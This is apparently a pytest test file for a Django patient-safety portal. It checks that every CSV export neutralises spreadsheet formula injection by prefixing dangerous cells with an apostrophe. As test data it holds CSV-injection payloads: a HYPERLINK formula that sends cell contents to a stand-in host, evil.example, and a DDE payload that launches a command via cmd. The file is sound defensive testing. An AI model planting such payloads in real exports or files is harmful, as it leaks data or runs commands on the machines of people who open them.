"""Every CSV the portal hands out neutralises cells a spreadsheet would run as a formula."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from cases import services
from chpso_portal.audit.models import AuditEvent
from chpso_portal.audit.services import audit_record
from chpso_portal.csv import FORMULA_START, csv_text, safe_cell
from tests.factories import ReportFactory

REPO = Path(__file__).resolve().parents[2]
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd"]


def rows_of(response):
    if getattr(response, "streaming", False):
        text = b"".join(response.streaming_content).decode()
    else:
        text = response.content.decode()
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert cells
    for cell in cells:
        assert not cell.startswith(FORMULA_START), cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_shown_as_typed(payload):
    assert safe_cell(payload) == "'" + payload
    assert list(csv.reader(io.StringIO(csv_text([[payload, "plain", None, 3]])))) == [
        ["'" + payload, "plain", "", "3"]]


@pytest.mark.parametrize("number", ["-2.5", "+3", "-0", "-1e3"])
def test_a_plain_number_stays_a_number(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("text", ["-2+3", "-", "- 2", "-2.5\t", "\t5", "+1 "])
def test_almost_numbers_are_still_neutralised(text):
    assert safe_cell(text) == "'" + text


def test_chart_downloads_go_through_the_shared_writer():
    from chpso_portal.chart_pages import csv_response

    response = csv_response([["month", "label"], ["2026-01", "=cmd()"], ["2026-02", "-1.5"]],
                            "chart.csv")
    rows = rows_of(response)
    assert rows[0][0].startswith("# Patient Safety Work Product")
    assert rows[2] == ["2026-01", "'=cmd()"] and rows[3] == ["2026-02", "-1.5"]


def test_the_leads_and_the_psos_exports_neutralise_formulas(world, client_for):
    world.hospital.name = "=cmd|' /C calc'!A0"
    world.hospital.save()
    report = ReportFactory(hospital=world.hospital, narrative=PAYLOADS[0],
                           location_detail="@corridor")
    # The payload's address is a finding of the screening; the reviewer keeps it, with a reason.
    from chpso_portal.deidentify import screen

    kept = [{"kind": str(f.kind), "text": f.text, "reason": "Part of a test formula."}
            for f in screen(report.narrative)]
    services.report_review_save(report=report, actor=world.lead, factors=["handover"],
                                systems_issue=True, pso_summary="+summary -2",
                                dismissed_findings=kept)
    services.report_send(report=report, actor=world.lead)

    lead_rows = rows_of(client_for(world.lead).get(reverse("report-export")))
    pso_rows = rows_of(client_for(world.coordinator).get(reverse("pso-report-export")))

    for rows in (lead_rows, pso_rows):
        assert_no_formula(rows)
        assert "'" + PAYLOADS[0] in rows[2]
    assert "'+summary -2" in pso_rows[2] and "'=cmd|' /C calc'!A0" in pso_rows[2]


def test_the_import_template_goes_through_the_same_writer(world, client_for):
    assert_no_formula(rows_of(client_for(world.lead).get(reverse("report-import-template"))))


def test_the_audit_export_neutralises_formulas(world, client_for):
    event = audit_record(actor=world.lead, action="view", hospital=world.hospital,
                         summary="=HYPERLINK(\"http://evil.example\")")
    response = client_for(world.coordinator).post(
        reverse("admin:audit_auditevent_changelist"),
        {"action": "export_csv", "index": 0, "_selected_action": [event.pk]})
    rows = rows_of(response)
    assert_no_formula(rows)
    assert "'=HYPERLINK(\"http://evil.example\")" in rows[2]
    assert AuditEvent.objects.filter(action="export").exists()


def test_no_code_writes_csv_except_the_shared_writer():
    """A new export must use chpso_portal.csv; this finds one that bypasses it."""
    allowed = {REPO / "chpso_portal" / "csv.py"}
    offenders = []
    for app in ("chpso_portal", "cases", "collaboratives", "members"):
        for path in (REPO / app).rglob("*.py"):
            if path in allowed or "management" in path.parts or "migrations" in path.parts:
                continue
            text = path.read_text()
            if ("csv.writer" in text or "csv.DictWriter" in text
                    or re.search(r"content_type\s*=\s*[\"']text/csv", text)):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
